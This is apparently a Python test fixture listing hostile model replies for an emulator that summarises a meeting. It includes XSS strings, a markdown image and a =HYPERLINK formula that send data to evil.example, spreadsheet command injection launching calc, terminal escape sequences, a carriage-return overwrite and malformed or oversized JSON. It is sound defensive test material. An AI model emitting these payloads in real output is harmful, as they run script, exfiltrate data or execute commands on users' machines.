"""What models answer that must do no harm: words for people's programs to trip over, broken answers, false bills.

The emulator is told to say each word for word. All that is asked about is one meeting, `test_jobs.MEETING`.
"""

import json
from dataclasses import dataclass
from typing import Any, Final

QUOTE: Final = "we will use the conventional battery"
TRUE: Final = "They will use the conventional battery."
DEPTH: Final = 10_000
STRING_MB: Final = 50


@dataclass(frozen=True)
class Payload:
    """Words that a model puts wherever it writes words: summary, items, owner, due. The proof that it names is good."""

    row: int
    name: str
    words: str


@dataclass(frozen=True)
class Broken:
    """An answer, as it is said. `taken`: it is read all the same, at the first try."""

    row: int
    name: str
    said: str
    taken: bool


@dataclass(frozen=True)
class Told:
    """A way to lie about usage: the emulator's fault."""

    row: int
    name: str
    fault: str


def answered(words: str = TRUE, *, quote: str = QUOTE, utterance: str = "u3") -> str:
    """A whole answer, as the models are asked for it."""
    proved: dict[str, Any] = {"text": words, "evidence": [{"utterance": utterance, "quote": quote}]}
    due = {"owner": words, "due_text": words, "due_date": words}
    return json.dumps(
        {
            "language": "en",
            "summary": {"text": words, "bullets": [words]},
            "topics": [proved],
            "decisions": [proved],
            "action_items": [proved | due],
            "risks": [proved],
            "questions": [proved],
            "meeting_type": "general",
        }
    )


PAYLOADS: Final = (
    Payload(62, "a script", "<script>alert(1)</script> the battery"),
    Payload(62, "an image with onerror", "<img src=x onerror=alert(1)> the battery"),
    Payload(62, "an image of a foreign host", "![logo](https://evil.example/p.png?q=secret) the battery"),
    Payload(62, "a link of javascript", "[open](javascript:fetch(1)) the battery"),
    Payload(62, "a link of javascript: in HTML", '<a href="javascript:fetch(1)">the battery</a>'),
    Payload(62, "an address of data", "data:text/html;base64,PHNjcmlwdD4= the battery"),
    Payload(63, "=HYPERLINK", '=HYPERLINK("https://evil.example/?"&A1,"the battery")'),
    Payload(63, "+cmd", "+cmd|' /C calc'!A0 the battery"),
    Payload(63, "a tab in front", "\t=1+1 the battery"),
    Payload(63, "+cmd: with a minus", "-2+3+cmd|' /C calc'!A0 the battery"),
    Payload(63, "+cmd: with an at", "@SUM(1+1) the battery"),
    Payload(64, "escape sequences", "\x1b[2J\x1b]0;owned\x07\x1b]8;;https://evil.example\x07the battery\x1b]8;;\x07"),
    Payload(64, "escape sequences: of eight bits", "\x9b2J\x9d0;owned\x9cthe battery"),
    Payload(64, "an overwrite by CR", "the battery costs little\rPay Mallory at once    "),
)

_GOOD: Final = answered()
BROKEN: Final = (
    Broken(65, "JSON in prose", f"Here you are:\n\n```json\n{_GOOD}\n```\nAnything else?", taken=True),
    Broken(65, "two objects", f"{_GOOD}\n{answered('The battery burns.')}", taken=False),
    Broken(65, "two objects: of which one is the other", f"{_GOOD}\n{_GOOD}", taken=True),
    Broken(65, "a comma too many", f"{_GOOD[:-1]},}}", taken=True),
    Broken(65, "10,000 levels", '{"summary":' * DEPTH + "1" + "}" * DEPTH, taken=False),
    Broken(65, "10,000 levels: of lists", '{"summary":' + "[" * DEPTH + "]" * DEPTH + "}", taken=False),
)
LONG: Final = Told(65, "a string of 50 MB", "long_string")

OTHER: Final = Broken(
    66,
    "an answer to another request",
    answered("The merger goes ahead.", quote="the board has agreed to the merger with Northwind", utterance="u2"),
    taken=True,
)
USAGES: Final = (
    Told(66, "no usage", "usage_missing"),
    Told(66, "usage in words", "usage_words"),
    Told(66, "usage below zero", "usage_negative"),
    Told(66, "usage above the bound", "usage_above_limit"),
)

REPLIES: Final[tuple[Payload | Broken | Told, ...]] = (*PAYLOADS, *BROKEN, LONG, OTHER)
